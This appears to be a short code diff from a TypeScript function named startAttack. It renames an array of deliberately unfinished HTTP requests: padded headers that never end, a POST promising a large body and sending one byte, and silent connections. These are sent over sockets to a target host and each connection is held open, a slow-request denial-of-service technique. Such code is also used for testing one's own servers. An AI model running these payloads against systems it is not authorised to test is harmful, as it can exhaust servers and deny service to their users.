@@ -57,7 +57,7 @@ async function startAttack(attack: Attack) {
   };
 
   // Unfinished headers, missing bodies, and silent connections.
-  const begun = [
+  const unfinishedRequests = [
     `GET /api/user HTTP/1.1\r\nHost: ${hostname}\r\nX-Filler: ${'a'.repeat(4_000)}`,
     `POST /api/login HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`,
     '',
@@ -71,7 +71,7 @@ async function startAttack(attack: Attack) {
         answer += data;
       });
       socket.on('error', () => undefined);
-      socket.write(begun[index % begun.length] as string);
+      socket.write(unfinishedRequests[index % unfinishedRequests.length] as string);
       await new Promise<void>((resolve) => socket.once('close', () => resolve()));
       open.delete(socket);
       return /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1] ?? 'closed';
